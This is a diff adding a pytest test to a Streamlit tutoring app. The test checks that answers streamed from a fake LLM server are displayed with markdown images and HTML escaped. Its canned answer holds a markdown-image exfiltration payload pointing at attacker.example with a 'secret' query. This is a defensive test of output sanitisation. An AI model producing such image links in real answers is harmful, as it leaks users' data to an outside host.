@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from tests.support.fake_llm_server import FakeLLMServer, fake_llm  # noqa: F401
 from tests.support.ui import APP, copy_index
 from tutor.feedback import FeedbackStore
 from tutor.library import InstructorSession
@@ -76,6 +77,22 @@ def test_follow_up_uses_the_history_and_new_chat_clears_it(course: Path) -> None
     assert "conditioning" in messages[-1].answer.standalone_question.lower()
     next(b for b in at.button if b.label == "New chat").click().run()
     assert at.session_state["messages"] == [] and not at.chat_message
+
+
+def test_llm_mode_streams_the_answer_and_shows_the_model(course: Path, fake_llm: FakeLLMServer,  # noqa: F811
+                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", "test-key")
+    monkeypatch.setenv("OPENAI_BASE_URL", fake_llm.url)
+    monkeypatch.setenv("TUTOR_LLM_MODEL", "fake-model")
+    fake_llm.enqueue("Encoding is the input of information into the memory system [1]. "
+                     "See ![x](http://attacker.example/?q=secret) <b>bold</b>")
+    at = _ask(_app(), "What is encoding?")
+    assert "fake-model" in at.caption[0].value  # the mode, shown discreetly
+    answer = at.session_state["messages"][-1].answer
+    assert answer.mode == "fake-model" and answer.citations
+    shown = at.chat_message[1].markdown[0].value
+    assert "!\\[x\\](http" in shown and "\\<b\\>" in shown  # no image, no tag: text
+    assert fake_llm.chat_requests and fake_llm.chat_requests[-1].body["stream"] is True
 
 
 def test_off_topic_question_is_refused_visibly(course: Path) -> None:
